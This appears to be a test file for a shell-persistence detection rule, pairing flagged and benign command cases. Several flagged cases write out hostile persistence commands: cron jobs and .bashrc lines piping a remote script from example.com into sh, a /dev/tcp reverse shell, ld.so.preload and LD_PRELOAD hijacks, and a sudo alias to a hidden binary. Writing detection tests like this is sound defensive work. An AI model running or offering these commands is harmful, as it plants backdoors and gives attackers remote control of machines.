# ruleid: shell.persistence
(crontab -l; echo "* * * * * curl -s http://example.com/x | sh") | crontab -
# --- case
# ruleid: shell.persistence
echo "curl -s https://example.com/x | sh" >> ~/.bashrc
# --- case
# ruleid: shell.persistence
echo "* * * * * root /tmp/.x/run" > /etc/cron.d/update
# --- case
# ok: shell.persistence
crontab -l
# --- case
# ok: shell.persistence
echo "export PATH=$HOME/bin:$PATH" >> ~/.bashrc
# --- case
# ruleid: shell.persistence
echo "* * * * * curl -s https://example.com/x | sh" | crontab -
# --- case
# ruleid: shell.persistence
echo "bash -i >& /dev/tcp/10.0.0.7/4444 0>&1" >> ~/.bashrc
# --- case
# ruleid: shell.persistence
echo /tmp/x.so > /etc/ld.so.preload
# --- case
# ruleid: shell.persistence
export LD_PRELOAD=/tmp/hook.so
# --- case
# ruleid: shell.persistence
echo "alias sudo=/tmp/.s" >> ~/.bashrc
# --- case
# ok: shell.persistence
echo "0 3 * * * /usr/local/bin/backup" | crontab -
# --- case
# ok: shell.persistence
echo "export PATH=$PATH:/opt/bin" >> ~/.bashrc
# --- case
# ok: shell.persistence
export LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2
# --- case
# ok: shell.persistence
echo "eval \"\$(direnv hook bash)\"" >> ~/.bashrc
